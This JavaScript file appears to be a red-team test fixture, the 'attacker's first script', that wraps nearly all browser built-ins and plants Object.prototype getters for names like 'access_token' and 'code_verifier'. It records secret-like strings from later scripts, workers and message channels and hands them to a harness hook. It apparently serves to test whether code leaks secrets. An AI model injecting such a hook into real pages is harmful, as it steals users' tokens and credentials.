// The attacker's first script: everything that the language and the platform lend to later scripts is replaced by
// something that does the same and tells `redTeamReport(name, a newline, text)` each text long enough to hold a piece of
// a secret. All that it needs itself is taken before.
{
  const report = globalThis.redTeamReport;
  const { apply, construct, ownKeys, getOwnPropertyDescriptor, getPrototypeOf, defineProperty } = Reflect;
  const { then } = Promise.prototype;
  const { isView } = ArrayBuffer;
  const { fromCharCode } = String;
  const { addEventListener } = EventTarget.prototype;
  const { has, add } = Set.prototype;
  const forEachOf = new Map();
  for (const type of [Map, Set, Headers, URLSearchParams, FormData]) {
    forEachOf.set(type, type.prototype.forEach);
  }
  const types = [...forEachOf];
  const getter = (type, name) => getOwnPropertyDescriptor(type.prototype, name).get;
  const href = getter(URL, "href");
  const dataOf = getter(MessageEvent, "data");
  const parts = [
    [Request, getter(Request, "url"), getter(Request, "headers")],
    [Response, getter(Response, "url"), getter(Response, "headers")],
  ];
  const [NativeBlob, NativeNode, NativePromise, NativeURL] = [Blob, Node, Promise, URL];
  const NativeMessageEvent = MessageEvent;
  const NativeUint8Array = Uint8Array;
  const NativeArrayBuffer = ArrayBuffer;
  const { text: textOf } = Blob.prototype;
  const isA = (value, type) => apply(Function.prototype[Symbol.hasInstance], type, [value]);
  const runs = /[A-Za-z0-9_+/-]{16}/;
  defineProperty(runs, "exec", { value: RegExp.prototype.exec });
  const told = new Set();

  /** A recorder is not recorded. */
  let isBusy = false;
  const quietly = (action) => {
    if (isBusy) return;
    isBusy = true;
    try {
      action();
    } catch {
      // What cannot be read is passed over.
    } finally {
      isBusy = false;
    }
  };
  const record = (name, ...values) =>
    quietly(() => {
      const seen = new Set();
      for (let at = 0; at < values.length; at += 1) walk(name, values[at], 7, seen);
    });
  const tell = (name, text) => {
    if (text.length < 16 || runs.exec(text) === null) return;
    const line = `${name}\n${text}`;
    if (apply(has, told, [line])) return;
    apply(add, told, [line]);
    report(line);
  };

  const walk = (name, value, depth, seen) => {
    if (typeof value === "string") return tell(name, value);
    if ((typeof value !== "object" && typeof value !== "function") || value === null || depth === 0) return;
    if (value === globalThis || isA(value, NativeNode) || apply(has, seen, [value])) return;
    apply(add, seen, [value]);
    const deeper = (member) => walk(name, member, depth - 1, seen);
    if (isView(value)) {
      return tell(name, bytesOf(new NativeUint8Array(value.buffer, value.byteOffset, value.byteLength)));
    }
    if (isA(value, NativeArrayBuffer)) return tell(name, bytesOf(new NativeUint8Array(value)));
    if (isA(value, NativePromise)) {
      apply(then, value, [(result) => record(name, result), () => {}]);
      return;
    }
    if (isA(value, NativeBlob)) {
      apply(then, apply(textOf, value, []), [(text) => record(name, text), () => {}]);
      return;
    }
    if (isA(value, NativeMessageEvent)) deeper(apply(dataOf, value, []));
    if (isA(value, NativeURL)) deeper(apply(href, value, []));
    for (let at = 0; at < types.length; at += 1) {
      const [type, forEach] = [types[at][0], types[at][1]];
      if (!isA(value, type)) continue;
      apply(forEach, value, [
        (member, key) => {
          deeper(key);
          deeper(member);
        },
      ]);
    }
    for (let at = 0; at < parts.length; at += 1) {
      if (!isA(value, parts[at][0])) continue;
      deeper(apply(parts[at][1], value, []));
      deeper(apply(parts[at][2], value, []));
    }
    const keys = ownKeys(value);
    for (let at = 0; at < keys.length && at < 500; at += 1) {
      deeper(keys[at]);
      const descriptor = getOwnPropertyDescriptor(value, keys[at]);
      if (descriptor !== undefined && "value" in descriptor) deeper(descriptor.value);
    }
  };

  /** Of a whole wasm memory not: what is taken out of it is seen. */
  const bytesOf = (bytes) => {
    let text = "";
    if (bytes.length > 256 * 1024) return text;
    for (let at = 0; at < bytes.length; at += 1) text += fromCharCode(bytes[at]);
    return text;
  };

  /** The same function, recorded: its receiver, its arguments and its result; also as a constructor. */
  const recorded = (name, target) => {
    const handler = {
      apply(target, self, given) {
        if (isBusy) return apply(target, self, given);
        record(name, self, given);
        const result = apply(target, self, given);
        record(name, result);
        return result;
      },
      construct(target, given, newTarget) {
        record(name, given);
        const made = construct(target, given, newTarget);
        listenTo(name, made);
        return made;
      },
    };
    Object.setPrototypeOf(handler, null);
    return new Proxy(target, handler);
  };
  const NativeSharedWorker = globalThis.SharedWorker;
  const channels = [Worker, BroadcastChannel, EventSource, WebSocket];
  const portOf = getter(SharedWorker, "port");
  /** Hears what a worker or channel says, whether or not anybody else does. */
  const listenTo = (name, made) =>
    quietly(() => {
      let target = null;
      for (let at = 0; at < channels.length; at += 1) if (isA(made, channels[at])) target = made;
      if (isA(made, NativeSharedWorker)) target = apply(portOf, made, []);
      if (target === null) return;
      apply(addEventListener, target, [
        "message",
        (event) => record(`${name}'s messages`, apply(dataOf, event, [])),
      ]);
    });

  const patchMember = (name, owner, key) => {
    const descriptor = getOwnPropertyDescriptor(owner, key);
    if (descriptor === undefined || descriptor.configurable !== true) return;
    for (const part of ["value", "get", "set"]) {
      if (typeof descriptor[part] !== "function") continue;
      descriptor[part] = recorded(`${name}.${String(key)}`, descriptor[part]);
    }
    defineProperty(owner, key, descriptor);
  };
  const patchAll = (name, owner) => {
    for (const key of ownKeys(owner)) if (key !== "constructor") patchMember(name, owner, key);
  };

  for (const name of globalThis.redTeamIntrinsics.prototypes) {
    if (globalThis[name]?.prototype !== undefined) patchAll(name, globalThis[name].prototype);
  }
  for (const name of globalThis.redTeamIntrinsics.namespaces) patchAll(name, globalThis[name]);
  for (const value of [[].values(), new Map().values(), new Set().values(), "".matchAll(/a/g)]) {
    patchAll(Object.prototype.toString.call(value), getPrototypeOf(value));
  }
  for (const name of globalThis.redTeamIntrinsics.globals) patchMember("window", globalThis, name);
  // `await` asks a promise for its constructor, and calls `then` if it is another than the native one.
  const value = { [Symbol.species]: null };
  defineProperty(Promise.prototype, "constructor", { value, configurable: true, writable: true });
  for (const name of ["then", "toJSON", "data", "access_token", "code_verifier"]) {
    defineProperty(Object.prototype, name, {
      configurable: true,
      get() {
        record(`Object.prototype.${name}`, this);
        return undefined;
      },
      set(value) {
        record(`Object.prototype.${name}`, value);
        defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
      },
    });
  }
  for (const type of ["message", "storage", "error", "unhandledrejection"]) {
    apply(addEventListener, globalThis, [
      type,
      (event) => record(`${type} events`, event.data, event.newValue, event.message, event.reason),
    ]);
  }
}
